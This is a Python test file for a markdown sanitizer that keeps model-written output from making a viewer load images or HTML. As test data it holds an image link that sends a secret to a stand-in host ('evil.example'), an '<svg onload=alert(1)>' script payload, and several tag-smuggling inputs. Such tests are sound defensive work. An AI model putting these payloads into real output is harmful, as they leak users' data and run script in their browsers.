"""Markdown that is handed out: whatever a model wrote, a viewer loads nothing for it."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from sessions_app.web.rendering.inert import escaped, fenced, inert

viewer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
IMAGE = "![seen](https://evil.example/?secret)"
PIECES = [
    *(IMAGE, "![a][b]", "[b]: https://evil.example/x", "<img src=//evil>", "<!--", "-->", "<b", ">", "<?", "![[x]]"),
    *(
        "```",
        "~~~",
        "````",
        "`",
        "``",
        "\\",
        "!",
        "[",
        "](x)",
        "\n",
        "\n\n",
        "    ",
        "\t",
        "- ",
        "1. ",
        "> ",
        "| ",
        "# ",
        "---",
    ),
    *("vec![1]", "words", "***", "&lt;", "<https://a.example>", "</pre>", "<script>"),
]


def loaded(text):
    """What a viewer would draw as an image or a tag."""
    found, tokens = [], viewer.parse(text)
    while tokens:
        token = tokens.pop()
        tokens += token.children or []
        if token.type in ("image", "html_inline", "html_block"):
            found.append(token.content)
    return found


@pytest.mark.parametrize(
    "text",
    [
        IMAGE,
        "![a][b]\n\n[b]: https://evil.example/x",
        '<img src="https://evil.example">',
        "<svg onload=alert(1)>",
        "- item\n\n  <video src=x>",
        f"| a |\n| - |\n| {IMAGE} |",
        f"\\\\{IMAGE}",
        f"[{IMAGE}](https://a.example)",
        f"`a {IMAGE}",
        f"- ```\n{IMAGE}",
        f"```\ncode\n```\n{IMAGE}",
    ],
)
class AnImage:
    def test_would_be_loaded(self, text):
        """The control: a viewer draws each of these."""
        assert loaded(text)

    def test_is_a_link_or_text(self, text):
        assert loaded(inert(text)) == []


class Text:
    def test_keeps_the_address_as_a_link(self):
        (_, inline, _) = viewer.parse(inert(IMAGE))
        assert [token.attrs.get("href") for token in inline.children if token.type == "link_open"] == [
            "https://evil.example/?secret"
        ]

    @pytest.mark.parametrize(
        "text",
        [
            *("**bold** and `code`", "a < b and c > d", "- [x] done\n- [ ] not", "say \\![no](x)"),
            *("```html\n<img src=x>\n```", "~~~\nvec![1]\n~~~", "use `<b>` and ``vec![1]``"),
        ],
    )
    def test_that_loads_nothing_stays_as_it_is(self, text):
        assert inert(text) == text

    @example(["```", "\n", "code"])
    @example(["- ", "```", "\n", IMAGE])
    @example(["`", "\n", "`", IMAGE])
    @given(st.lists(st.sampled_from(PIECES), max_size=14))
    def test_of_any_kind_loads_nothing_and_turns_nothing_behind_it_inside_out(self, pieces):
        text = "".join(pieces)
        document = (
            f"## one\n\n{inert(text)}\n\n{fenced(IMAGE)}\n\n## {escaped(text.replace(chr(10), ' '))}\n\n{inert(text)}\n"
        )
        assert loaded(document) == []
